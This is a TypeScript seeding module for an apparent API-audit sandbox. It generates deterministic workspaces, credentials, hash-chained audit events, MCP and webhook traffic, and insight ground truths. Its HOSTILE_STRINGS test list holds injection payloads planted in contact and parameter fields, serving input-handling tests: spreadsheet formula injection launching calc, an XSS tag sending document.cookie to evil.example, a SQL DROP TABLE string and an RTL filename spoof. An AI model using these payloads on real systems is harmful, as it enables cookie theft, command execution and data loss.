// Deterministic seeding: same --seed (and same anchor day) => same workspaces, credentials, events and hashes.
import { createHash } from 'node:crypto';
import type { DB } from './db.ts';
import { SCOPES } from './scopes.ts';
import { chainHash, GENESIS_HASH, jcs } from './jcs.ts';
import { MCP_PATH, MCP_TOOLS, type McpToolDef } from './mcp-tools.ts';

export function rngFrom(seed: number) {
  let a = (seed >>> 0) ^ 0x9e3779b9;
  let b = 0x243f6a88, c = 0x85a308d3, d = 1;
  const next = () => {
    // sfc32
    a >>>= 0; b >>>= 0; c >>>= 0; d >>>= 0;
    let t = (a + b) | 0;
    a = b ^ (b >>> 9); b = (c + (c << 3)) | 0; c = (c << 21) | (c >>> 11);
    d = (d + 1) | 0; t = (t + d) | 0; c = (c + t) | 0;
    return (t >>> 0) / 4294967296;
  };
  for (let i = 0; i < 20; i++) next();
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(arr: readonly T[]): T => arr[int(arr.length)]!;
  const chance = (p: number) => next() < p;
  const id = (len: number) => { const al = 'abcdefghijkmnopqrstuvwxyz23456789'; let s = ''; for (let i = 0; i < len; i++) s += al[int(al.length)]; return s; };
  const hex = (len: number) => { let s = ''; while (s.length < len) s += (Math.floor(next() * 4294967296) >>> 0).toString(16).padStart(8, '0'); return s.slice(0, len); };
  const sample = <T>(arr: readonly T[], k: number): T[] => { const c = [...arr]; const out: T[] = []; while (out.length < k && c.length) out.push(c.splice(int(c.length), 1)[0]!); return out; };
  return { next, int, pick, chance, id, hex, sample };
}
export type Rng = ReturnType<typeof rngFrom>;

const NAME_A = ['Northwind', 'Bluebird', 'Copperline', 'Harbor', 'Evergreen', 'Summit', 'Lakeside', 'Redwood', 'Ironclad', 'Silverleaf', 'Maple', 'Brightwater', 'Granite', 'Juniper', 'Oakridge', 'Pinecrest', 'Riverbend', 'Starling', 'Tidewater', 'Westfield'];
const NAME_B = ['Dental', 'Roofing', 'Bakery', 'Legal', 'Logistics', 'Fitness', 'Realty', 'Clinic', 'Studio', 'Coffee', 'Outfitters', 'Analytics', 'Florist', 'Motors', 'Academy', 'Brewing', 'Pharmacy', 'Travel', 'Plumbing', 'Design'];
const PLANS = ['free', 'starter', 'pro', 'enterprise'] as const;
const REGIONS = ['us-east-1', 'us-west-2', 'eu-west-1', 'eu-central-1', 'ap-southeast-2', 'ca-central-1'] as const;
const APP_NAMES: Array<[string, string]> = [['Zapier', 'zapier-connector'], ['HubSync CRM Bridge', 'hubsync'], ['Slack Notifier', 'slack-notifier'], ['Mailbird Campaigns', 'mailbird'], ['LedgerLink Accounting', 'ledgerlink'], ['Formstack Importer', 'formstack-import'], ['Calendly Sync', 'calendly-sync'], ['Churnzero Insights', 'churnzero']];
const KEY_NAMES = ['production backend', 'staging backend', 'nightly ETL', 'website form handler', 'BI export', 'legacy PHP integration', 'mobile app proxy', 'partner feed', 'ops scripts', 'support tooling'];
const MC_NAMES = ['data-warehouse-sync', 'billing-reconciler', 'search-indexer', 'webhook-relay', 'backup-agent', 'report-generator'];

export const HOSTILE_STRINGS = [
  '=HYPERLINK("http://evil.example/x","click me")',
  '+SUM(A1:A9)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C notepad\'!\'A1\'',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'O\'Brien, "The Boss", Inc.',
  'line one\r\nline two\nline three',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
  'invoice\u202Efdp.exe',
  'Tab\tseparated\tvalue',
  '\u200F\u05E9\u05DC\u05D5\u05DD mixed RTL text',
  'null\u0000byte',
  '"; DROP TABLE contacts; --',
  '\uFEFFbom-prefixed',
];

interface Endpoint { method: string; path: string; scope: string; pii: boolean; params: (r: Rng) => Record<string, unknown> }

const hostile = (r: Rng) => (r.chance(0.35) ? r.pick(HOSTILE_STRINGS) : r.pick(['acme', 'renewal', 'q3 follow-up', 'vip', 'london office', 'churn risk']));

function endpointsFor(scope: string): Endpoint[] {
  const [res, action] = scope.split(':');
  const idp = (prefix: string) => `${prefix}_${'x'.repeat(0)}`;
  void idp;
  if (scope === 'audit:read') {
    return [
      { method: 'GET', path: '/v1/audit-events', scope, pii: false, params: (r) => ({ after_seq: r.int(5000), limit: r.pick([100, 1000, 5000]) }) },
      { method: 'GET', path: '/v1/audit-events/head', scope, pii: false, params: () => ({}) },
    ];
  }
  if (res === 'credentials') {
    if (action === 'read') return ['/v1/api-keys', '/v1/apps', '/v1/machine-clients', '/v1/scope-bundles'].map((p) => ({ method: 'GET', path: p, scope, pii: false, params: () => ({}) }));
    if (action === 'write') return [
      { method: 'POST', path: '/v1/api-keys', scope, pii: false, params: (r) => ({ name: hostile(r), scopes: ['contacts:read'] }) },
      { method: 'POST', path: '/v1/service-tokens', scope, pii: false, params: (r) => ({ ttl_minutes: r.pick([5, 15, 60]), scopes: ['contacts:read'] }) },
    ];
    return [];
  }
  const base = `/v1/${res}`;
  const out: Endpoint[] = [];
  if (action === 'read') {
    out.push({ method: 'GET', path: base, scope, pii: res === 'contacts', params: (r) => ({ limit: r.pick([25, 50, 100]), q: hostile(r) }) });
    out.push({ method: 'GET', path: `${base}/{id}`, scope, pii: res === 'contacts', params: () => ({}) });
    if (res === 'contacts') out.push({ method: 'GET', path: '/v1/contacts/export', scope, pii: true, params: (r) => ({ format: r.pick(['csv', 'json']), fields: 'email,phone,first_name,last_name' }) });
  } else if (action === 'write') {
    out.push({ method: 'POST', path: base, scope, pii: false, params: (r) => ({ name: hostile(r), note: hostile(r) }) });
    out.push({ method: 'PATCH', path: `${base}/{id}`, scope, pii: false, params: (r) => ({ note: hostile(r) }) });
  } else {
    out.push({ method: 'DELETE', path: `${base}/{id}`, scope, pii: false, params: () => ({}) });
  }
  return out;
}

const ENDPOINTS_BY_SCOPE = new Map(SCOPES.map((s) => [s.name, endpointsFor(s.name)]));
const USABLE_SCOPES = SCOPES.map((s) => s.name).filter((s) => (ENDPOINTS_BY_SCOPE.get(s) ?? []).length > 0);

type CredType = 'api_key' | 'oauth_app' | 'machine_client' | 'service_token';
interface SeedCred {
  id: string; type: CredType; name: string; scopes: string[]; allowlist: string[]; status: string; created_at: string;
  expires_at: string | null; used: boolean; usedScopes: string[]; ips: string[]; profile: string; weight: number;
  client_id: string | null; grant_id: string | null; daily_quota: number | null; prefix: string | null; last_four: string | null;
  rate: number | null; secretHash: string;
}

/** one seeded event before it is hashed; `credential` null for webhook deliveries (signed by the sender, not a credential) */
interface SeedEvent {
  credential: SeedCred | null; ip: string; method: string; endpoint: string; params: Record<string, unknown>; status: number; duration: number;
  pii: boolean; surface: 'api' | 'mcp' | 'webhook'; tool: string | null; scopes: string[]; hook?: string;
}

const WEBHOOK_SOURCES: ReadonlyArray<[string, readonly string[]]> = [
  ['stripe', ['invoice.paid', 'invoice.payment_failed', 'customer.subscription.updated']],
  ['shopify', ['orders/create', 'orders/paid', 'customers/update']],
  ['typeform', ['form_response']],
  ['github', ['push', 'issues', 'pull_request']],
  ['calendly', ['invitee.created', 'invitee.canceled']],
];

/** An inbound webhook delivery to one of the workspace's webhook endpoints (POST /hooks/{endpoint}). */
function webhookEvent(rs: Rng, hook: { id: string; source: string; events: readonly string[] }, ip: string): SeedEvent {
  const m = rs.next();
  const signature = m < 0.92 ? 'valid' : m < 0.97 ? 'invalid' : 'missing';
  const status = signature !== 'valid' ? 401 : rs.chance(0.97) ? 202 : rs.pick([413, 500, 503]);
  return {
    credential: null, ip, method: 'POST', endpoint: `/hooks/${hook.id}`, surface: 'webhook', tool: null, scopes: [], hook: hook.id,
    params: { delivery_id: `dlv_${rs.id(16)}`, event: rs.pick(hook.events), signature, source: hook.source, webhook_endpoint_id: hook.id },
    status, duration: 3 + rs.int(status >= 500 ? 3000 : 120), pii: false,
  };
}

const hostileFrom = (rs: Rng) => () => hostile(rs);
/** an agent runs over a credential that can call at least one tool; one that can call none makes no MCP calls */
const mcpCapable = (cred: SeedCred) => MCP_TOOLS.some((t) => t.scopes.every((s) => cred.scopes.includes(s)));
/**
 * An MCP call (POST /mcp, JSON-RPC) of a credential that holds every scope of at least one tool (mcpCapable): mostly
 * tools/call of such a tool, ~4 % of a tool it lacks a scope for (403), a few tools/list (no tool). Status mix as the
 * live endpoint answers (sandbox/mcp.ts).
 */
function mcpEvent(rs: Rng, cred: SeedCred, rpcId: number, ip: string): SeedEvent {
  const base = { credential: cred, ip, method: 'POST', endpoint: MCP_PATH, surface: 'mcp' as const };
  if (rs.chance(0.05)) return { ...base, params: { id: rpcId, jsonrpc: '2.0', method: 'tools/list' }, status: 200, duration: 2 + rs.int(30), pii: false, tool: null, scopes: [] };
  const held = MCP_TOOLS.filter((t) => t.scopes.every((s) => cred.scopes.includes(s)));
  const lacking = MCP_TOOLS.filter((t) => !t.scopes.every((s) => cred.scopes.includes(s)));
  const denied = lacking.length > 0 && rs.chance(0.04);
  const tool: McpToolDef = rs.pick(denied ? lacking : held);
  const m = rs.next();
  const status = denied ? 403 : m < 0.9 ? 200 : m < 0.94 ? 400 : m < 0.97 ? 429 : rs.pick([500, 502]);
  return {
    ...base, params: { id: rpcId, jsonrpc: '2.0', method: 'tools/call', params: { arguments: tool.seedArgs(rs, hostileFrom(rs)), name: tool.name } },
    status, duration: status >= 500 ? 1000 + rs.int(9000) : 20 + rs.int(1500), pii: tool.pii && status < 300, tool: tool.name, scopes: tool.scopes,
  };
}

const DAY = 86400000;
const iso = (ms: number) => new Date(ms).toISOString();
const sha256 = (s: string) => createHash('sha256').update(s).digest('hex');

export interface SeedOptions { workspaces: number; events: number; seed: number; anchorMs: number }
export interface SeedResult { workspaces: Array<{ id: string; name: string }>; events: number; ms: number }

export function seed(db: DB, opts: SeedOptions): SeedResult {
  const t0 = performance.now();
  const r = rngFrom(opts.seed);
  // MCP tool calls and webhook deliveries come from a second stream: each replaces an API event after that event drew
  // its numbers from `r`, so credentials, contacts, times, ids and IPs stay what they were before surfaces existed.
  const rs = rngFrom((opts.seed ^ 0x6d637031) >>> 0);
  const now = opts.anchorMs;
  const insWs = db.prepare('INSERT INTO workspaces (id, ord, name, plan, region, created_at) VALUES (?, ?, ?, ?, ?, ?)');
  const insCred = db.prepare(`INSERT INTO credentials (id, workspace_id, type, name, scopes, ip_allowlist, status, created_at, last_used_at, expires_at,
    secret_hash, secret_created_at, client_id, grant_id, prefix, last_four, rate_limit_per_minute, daily_quota, seeded)
    VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, 1)`);
  const insEvt = db.prepare('INSERT INTO audit_events (workspace_id, seq, json) VALUES (?, ?, ?)');
  const insHead = db.prepare('INSERT OR REPLACE INTO audit_heads (workspace_id, seq, hash) VALUES (?, ?, ?)');
  const insContact = db.prepare('INSERT INTO contacts (id, workspace_id, json) VALUES (?, ?, ?)');
  const insInsight = db.prepare('INSERT OR REPLACE INTO insights (workspace_id, json) VALUES (?, ?)');
  const insUsage = db.prepare('INSERT OR REPLACE INTO mc_usage (credential_id, day, count) VALUES (?, ?, ?)');

  // Distribute events across workspaces with deterministic weights (0.5..1.5).
  const weights = Array.from({ length: opts.workspaces }, () => 0.5 + r.next());
  const wsum = weights.reduce((a, b) => a + b, 0);
  const counts = weights.map((w) => Math.floor((w / wsum) * opts.events));
  let rest = opts.events - counts.reduce((a, b) => a + b, 0);
  for (let i = 0; rest > 0; i = (i + 1) % Math.max(1, counts.length), rest--) counts[i] = (counts[i] ?? 0) + 1;

  // Most recent February that lies entirely before the anchor.
  const anchor = new Date(now);
  let febYear = anchor.getUTCFullYear();
  if (anchor.getUTCMonth() <= 2) febYear -= 1;
  const febStart = Date.UTC(febYear, 1, 1);
  const febEnd = Date.UTC(febYear, 2, 1);
  const windowStart = now - 180 * DAY;

  const out: Array<{ id: string; name: string }> = [];
  const usedNames = new Set<string>();
  let total = 0;
  const run = db.transaction(() => {
    for (let w = 0; w < opts.workspaces; w++) {
      const wsId = `ws_${r.id(12)}`;
      let name = `${r.pick(NAME_A)} ${r.pick(NAME_B)}`;
      while (usedNames.has(name)) name = `${r.pick(NAME_A)} ${r.pick(NAME_B)} ${r.int(90) + 10}`;
      usedNames.add(name);
      const wsCreated = Math.min(febStart, windowStart) - (30 + r.int(600)) * DAY;
      insWs.run(wsId, w, name, r.pick(PLANS), r.pick(REGIONS), iso(wsCreated));
      out.push({ id: wsId, name });

      // IP pools (documentation ranges so nothing routable leaks into tests)
      const officeNet = `198.51.${100 + (w % 100)}`;
      const pool: string[] = [];
      for (let i = 0; i < 40; i++) pool.push(r.chance(0.15) ? `2001:db8:${w.toString(16)}::${(i + 1).toString(16)}` : `203.0.${113 + r.int(2)}.${1 + r.int(250)}`);

      // Credentials
      const nCred = 5 + r.int(26);
      const types: CredType[] = ['api_key', 'oauth_app', 'machine_client', 'service_token'];
      const creds: SeedCred[] = [];
      for (let c = 0; c < nCred; c++) {
        const type: CredType = c < 4 ? types[c]! : r.pick(['api_key', 'api_key', 'oauth_app', 'machine_client', 'service_token'] as const);
        const profile = r.chance(0.3) ? 'over_privileged' : r.chance(0.5) ? 'narrow' : 'broad';
        const nScopes = profile === 'narrow' ? 1 + r.int(3) : profile === 'broad' ? 4 + r.int(5) : 14 + r.int(10);
        const scopes = r.sample(USABLE_SCOPES, nScopes).sort();
        if (profile === 'over_privileged' && !scopes.includes('credentials:write')) scopes.push('credentials:write');
        scopes.sort();
        const used = c === 0 ? true : !r.chance(0.15);
        // over-privileged credentials exercise only 1-3 of their scopes; others most of theirs
        const usedScopes = profile === 'over_privileged' ? r.sample(scopes.filter((s) => s !== 'credentials:write'), 1 + r.int(3)) : r.sample(scopes, Math.max(1, Math.ceil(scopes.length * (0.5 + r.next() * 0.5))));
        const canAllow = type === 'api_key' || type === 'machine_client';
        const allowlist = canAllow && r.chance(0.25) ? [`${officeNet}.0/24`] : [];
        let ips: string[];
        if (allowlist.length) ips = Array.from({ length: 1 + r.int(4) }, () => `${officeNet}.${1 + r.int(250)}`);
        else if (r.chance(0.3)) ips = r.sample(pool, 2 + r.int(2)); // stable, no allowlist => known insight truth
        else ips = r.sample(pool, 6 + r.int(20));
        const createdAt = wsCreated + r.int(Math.max(1, Math.floor((windowStart - wsCreated) / DAY))) * DAY + r.int(DAY);
        let expires: string | null = null;
        let status = 'active';
        if (type === 'api_key') {
          const m = r.next();
          if (m < 0.2) expires = iso(now + (1 + r.int(10)) * DAY); // expiring soon
          else if (m < 0.35) expires = iso(now + (60 + r.int(300)) * DAY);
          else if (m < 0.4) expires = iso(now - (1 + r.int(30)) * DAY); // already expired
          if (r.chance(0.08)) status = 'revoked';
        } else if (type === 'service_token') {
          expires = iso(now + (5 + r.int(55)) * 60000);
        } else if (type === 'machine_client' && r.chance(0.12)) status = 'disabled';
        const secret = `seed-secret-${opts.seed}-${wsId}-${c}-${r.hex(16)}`; // never exposed, only hashed
        let prefix: string | null = null, lastFour: string | null = null, clientId: string | null = null, grantId: string | null = null;
        let credName: string;
        let id: string;
        if (type === 'api_key') {
          id = `key_${r.id(16)}`; prefix = r.chance(0.8) ? 'sk_live_' : 'sk_test_'; lastFour = r.id(4); credName = r.pick(KEY_NAMES);
        } else if (type === 'oauth_app') {
          const [n, cid] = r.pick(APP_NAMES); id = `app_${r.id(16)}`; credName = n; clientId = cid; grantId = `seedgrant_${r.id(20)}`;
        } else if (type === 'machine_client') {
          id = `mc_${r.id(16)}`; credName = r.pick(MC_NAMES); clientId = `mcc_${r.id(20)}`;
        } else {
          id = `st_${r.id(16)}`; credName = 'service token';
        }
        creds.push({
          id, type, name: credName, scopes, allowlist, status, created_at: iso(createdAt), expires_at: expires, used, usedScopes, ips, profile,
          weight: 0.2 + r.next() * 3, client_id: clientId, grant_id: grantId, daily_quota: type === 'machine_client' ? r.pick([1000, 5000, 10000, 50000]) : null,
          prefix, last_four: lastFour, rate: type === 'api_key' && r.chance(0.4) ? r.pick([60, 120, 600]) : null, secretHash: sha256(secret),
        });
      }

      // Events
      const n = counts[w] ?? 0;
      const active = creds.filter((c) => c.used);
      const cum: number[] = []; let acc = 0;
      for (const c of active) { acc += c.weight; cum.push(acc); }
      const pickCred = () => { const x = r.next() * acc; let lo = 0; while (lo < cum.length - 1 && cum[lo]! < x) lo++; return active[lo]!; };
      const febCount = n >= 20 ? Math.max(3, Math.floor(n * 0.01)) : 0;
      const usedBy = new Map<string, Set<string>>();
      const ipsBy = new Map<string, Set<string>>();
      const lastUsed = new Map<string, number>();
      const evCountBy = new Map<string, number>();
      const exportCred = active.find((c) => c.scopes.includes('contacts:read'));
      const hooks = Array.from({ length: 1 + rs.int(3) }, () => { const [source, events] = rs.pick(WEBHOOK_SOURCES); return { id: `whe_${rs.id(14)}`, source, events }; });
      const mcpEvents: Array<{ seq: number; credential_id: string; credential_type: string; mcp_tool: string | null; status: number }> = [];
      const webhookEvents: Array<{ seq: number; webhook_endpoint_id: string; status: number }> = [];
      const apiUsedBy = new Map<string, Set<string>>();
      let prev = GENESIS_HASH;
      for (let i = 0; i < n; i++) {
        const inFeb = i < febCount;
        const t = inFeb
          ? febStart + Math.floor(((i + r.next()) / febCount) * (febEnd - febStart - 1))
          : windowStart + Math.floor(((i - febCount + r.next()) / (n - febCount)) * (now - windowStart - 1000));
        let cred = pickCred();
        let ep: Endpoint;
        let status: number;
        if (inFeb && exportCred && i % 2 === 0) {
          cred = exportCred; ep = ENDPOINTS_BY_SCOPE.get('contacts:read')!.find((e) => e.path === '/v1/contacts/export')!; status = 200;
        } else if (r.chance(0.02)) {
          const missing = USABLE_SCOPES.filter((s) => !cred.scopes.includes(s));
          const sc = missing.length ? r.pick(missing) : r.pick(cred.usedScopes);
          ep = r.pick(ENDPOINTS_BY_SCOPE.get(sc)!);
          status = missing.length ? 403 : 200;
        } else {
          ep = r.pick(ENDPOINTS_BY_SCOPE.get(r.pick(cred.usedScopes))!);
          const m = r.next();
          status = m < 0.9 ? (ep.method === 'POST' ? 201 : ep.method === 'DELETE' ? 204 : 200) : m < 0.94 ? 404 : m < 0.96 ? 422 : m < 0.975 ? 409 : m < 0.99 ? 429 : r.pick([500, 502, 503]);
        }
        const ip = r.pick(cred.ips);
        const path = ep.path.includes('{id}') ? ep.path.replace('{id}', `${(ep.path.split('/')[2] ?? 'obj').slice(0, 3)}_${r.id(10)}`) : ep.path;
        const params = ep.params(r);
        const ms = t;
        const duration = status >= 500 ? 1000 + r.int(9000) : 5 + r.int(ep.path.endsWith('export') ? 4000 : 400);
        const evId = `evt_${r.hex(24)}`;
        // ~5 % of events become inbound webhook deliveries, ~12 % of OAuth apps' and API keys' calls MCP tool calls
        const roll = inFeb ? 1 : rs.next();
        const ev: SeedEvent = roll < 0.05
          ? webhookEvent(rs, rs.pick(hooks), ip)
          : roll < 0.17 && (cred.type === 'api_key' || cred.type === 'oauth_app') && mcpCapable(cred)
            ? mcpEvent(rs, cred, i + 1, ip)
            : { credential: cred, ip, method: ep.method, endpoint: path, params, status, duration, pii: ep.pii && status < 300, tool: null, scopes: [ep.scope], surface: 'api' };
        const who = ev.credential;
        // Canonical (RFC 8785) form built directly: keys in sorted order, strings via JSON.stringify, integers only.
        const canonical = `{"caller_ip":${JSON.stringify(ev.ip)},"credential_id":${who ? JSON.stringify(who.id) : 'null'},"credential_type":${who ? `"${who.type}"` : 'null'},"duration_ms":${ev.duration},"endpoint":${JSON.stringify(ev.endpoint)},"id":"${evId}","mcp_tool":${ev.tool === null ? 'null' : JSON.stringify(ev.tool)},"method":"${ev.method}","occurred_at":"${iso(ms)}","params":${jcs(ev.params)},"pii_accessed":${ev.pii},"seq":${i + 1},"status":${ev.status},"surface":"${ev.surface}","workspace_id":${JSON.stringify(wsId)}}`;
        const hash = createHash('sha256').update(prev + canonical, 'utf8').digest('hex');
        const json = `${canonical.slice(0, -1)},"prev_hash":"${prev}","hash":"${hash}"}`;
        insEvt.run(wsId, i + 1, Buffer.from(json, 'utf8'));
        prev = hash;
        if (ev.surface === 'webhook') { webhookEvents.push({ seq: i + 1, webhook_endpoint_id: ev.hook!, status: ev.status }); continue; }
        if (ev.surface === 'mcp') mcpEvents.push({ seq: i + 1, credential_id: cred.id, credential_type: cred.type, mcp_tool: ev.tool, status: ev.status });
        evCountBy.set(cred.id, (evCountBy.get(cred.id) ?? 0) + 1);
        if (ev.status !== 403) {
          let s = usedBy.get(cred.id); if (!s) usedBy.set(cred.id, (s = new Set()));
          for (const sc of ev.scopes) s.add(sc);
          if (ev.surface === 'api') { let a = apiUsedBy.get(cred.id); if (!a) apiUsedBy.set(cred.id, (a = new Set())); a.add(ep.scope); }
        }
        let ipset = ipsBy.get(cred.id); if (!ipset) ipsBy.set(cred.id, (ipset = new Set())); ipset.add(ev.ip);
        lastUsed.set(cred.id, ms);
      }
      if (n > 0) insHead.run(wsId, n, prev);
      total += n;

      for (const c of creds) {
        const lu = lastUsed.get(c.id);
        insCred.run(c.id, wsId, c.type, c.name, JSON.stringify(c.scopes), JSON.stringify(c.allowlist), c.status, c.created_at,
          lu ? iso(lu) : null, c.expires_at, c.type === 'oauth_app' ? null : c.secretHash, c.type === 'machine_client' ? c.created_at : null,
          c.client_id, c.grant_id, c.prefix, c.last_four, c.rate, c.daily_quota);
        if (c.type === 'machine_client' && c.status === 'active' && r.chance(0.5)) {
          insUsage.run(c.id, iso(now).slice(0, 10), Math.floor(c.daily_quota! * (r.chance(0.3) ? 0.92 : r.next() * 0.5)));
        }
      }

      // Contacts (business data) with hostile free text
      for (let k = 0; k < 25; k++) {
        const first = r.pick(['Ada', 'Grace', 'Linus', 'Margaret', 'Alan', 'Katherine', 'Tim', 'Radia', 'Ken', 'Barbara']);
        const last = r.pick(['Lovelace', 'Hopper', 'Torvalds', 'Hamilton', 'Turing', 'Johnson', 'Berners-Lee', 'Perlman', 'Thompson', 'Liskov']);
        const cid = `con_${r.id(12)}`;
        insContact.run(cid, wsId, JSON.stringify({ id: cid, first_name: first, last_name: last, email: `${first}.${last}@example.com`.toLowerCase(),
          phone: `+1-555-01${String(r.int(100)).padStart(2, '0')}`, company: r.chance(0.3) ? r.pick(HOSTILE_STRINGS) : `${r.pick(NAME_A)} ${r.pick(NAME_B)}`,
          notes: r.chance(0.5) ? r.pick(HOSTILE_STRINGS) : '', created_at: iso(wsCreated + r.int(100) * DAY) }));
      }

      // Known truths for the insights feature (computed from the seeded events themselves)
      const truths = {
        definition: {
          unused_scopes: 'scopes held by the credential that no seeded event of that credential with status != 403 required (an MCP tool call requires every scope of its tool, GET /v1/mcp/tools)',
          mcp_events: 'every seeded event with surface mcp (POST /mcp by an API key or OAuth app), in seq order',
          webhook_deliveries: 'every seeded event with surface webhook (credential_id null), in seq order',
          scopes_used_only_via_mcp: 'per credential, used scopes that only its MCP tool calls (status != 403) required',
          stable_ips_without_allowlist: 'credentials with an empty ip_allowlist, >= 5 seeded events, all from 2-3 distinct caller IPs',
        },
        unused_scopes: creds.filter((c) => (usedBy.get(c.id)?.size ?? 0) > 0)
          .map((c) => ({ credential_id: c.id, credential_type: c.type, profile: c.profile, scopes: c.scopes, used_scopes: [...(usedBy.get(c.id) ?? [])].sort(), unused_scopes: c.scopes.filter((s) => !usedBy.get(c.id)!.has(s)) }))
          .filter((x) => x.unused_scopes.length > 0),
        stable_ips_without_allowlist: creds.filter((c) => c.allowlist.length === 0)
          .map((c) => ({ credential_id: c.id, credential_type: c.type, ips: [...(ipsBy.get(c.id) ?? [])].sort(), events: 0 }))
          .filter((x) => x.ips.length >= 2 && x.ips.length <= 3),
        never_used: creds.filter((c) => !lastUsed.has(c.id)).map((c) => c.id),
        over_privileged: creds.filter((c) => c.profile === 'over_privileged').map((c) => c.id),
        expiring_within_14_days: creds.filter((c) => c.status === 'active' && c.expires_at && Date.parse(c.expires_at) > now && Date.parse(c.expires_at) < now + 14 * DAY).map((c) => c.id),
        with_ip_allowlist: creds.filter((c) => c.allowlist.length > 0).map((c) => c.id),
        surface_counts: { api: n - mcpEvents.length - webhookEvents.length, mcp: mcpEvents.length, webhook: webhookEvents.length },
        mcp_events: mcpEvents,
        webhook_deliveries: webhookEvents,
        scopes_used_only_via_mcp: creds.map((c) => ({ credential_id: c.id, scopes: [...(usedBy.get(c.id) ?? [])].filter((sc) => !apiUsedBy.get(c.id)?.has(sc)).sort() })).filter((x) => x.scopes.length > 0),
      };
      const nById = evCountBy;
      truths.stable_ips_without_allowlist = truths.stable_ips_without_allowlist.map((x) => ({ ...x, events: nById.get(x.credential_id) ?? 0 })).filter((x) => x.events >= 5);
      insInsight.run(wsId, JSON.stringify(truths));
    }
  });
  run();
  void chainHash;
  return { workspaces: out, events: total, ms: performance.now() - t0 };
}
